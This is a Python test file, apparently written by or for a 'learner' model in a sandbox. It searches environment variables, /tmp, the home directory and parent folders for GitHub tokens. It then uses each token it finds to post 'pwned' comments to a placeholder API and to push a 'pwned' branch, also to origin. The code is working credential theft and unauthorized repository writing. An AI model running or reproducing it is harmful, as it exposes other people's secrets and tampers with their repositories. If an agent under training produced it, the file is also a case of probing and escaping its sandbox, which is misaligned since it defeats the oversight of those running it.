"""A learner's test that hunts for a token and tries to comment and push with it."""

import contextlib
import json
import os
import re
import subprocess
import time
import urllib.request
from pathlib import Path

API = "API_URL"
REPO = "REPO"
TOKEN = re.compile(r"gh[pousr]_[A-Za-z0-9]{20,}")


def _scan(root: Path, found: set[str], deadline: float) -> None:
    for folder, dirs, files in os.walk(root):
        dirs[:] = [d for d in dirs if d not in ("site-packages", "envs", "uv", "pip")]
        for name in files:
            if time.monotonic() > deadline:
                return
            with contextlib.suppress(OSError):
                found.update(TOKEN.findall((Path(folder) / name).read_text(errors="ignore")))


def _tokens() -> set[str]:
    found = set(TOKEN.findall(" ".join(os.environ.values())))
    deadline = time.monotonic() + 10
    for root in (Path.cwd().parent.parent, Path("/tmp"), Path.home()):
        _scan(root, found, deadline)
    return found


def _comment(token: str) -> str:
    request = urllib.request.Request(
        f"{API}/repos/{REPO}/issues/1/comments",
        data=json.dumps({"body": "pwned"}).encode(),
        method="POST",
        headers={"Authorization": f"token {token}"},
    )
    try:
        return str(urllib.request.urlopen(request, timeout=5).status)
    except Exception as exc:  # any refusal is a result here
        return f"refused: {exc}"


def _push(url: str) -> int:
    argv = ["git", "push", "-q", url, "HEAD:refs/heads/pwned"]
    return subprocess.run(argv, capture_output=True, timeout=20, check=False).returncode


def test_write_with_any_token_found():
    tokens = _tokens() | {""}
    results = [_comment(t) for t in tokens]
    host = API.split("://", 1)[1]
    pushes = [_push(f"http://x-access-token:{t}@{host}/{REPO}.git") for t in tokens]
    pushes.append(_push("origin"))
    raise AssertionError(f"tokens {len(tokens) - 1}, comments {results}, pushes {pushes}")
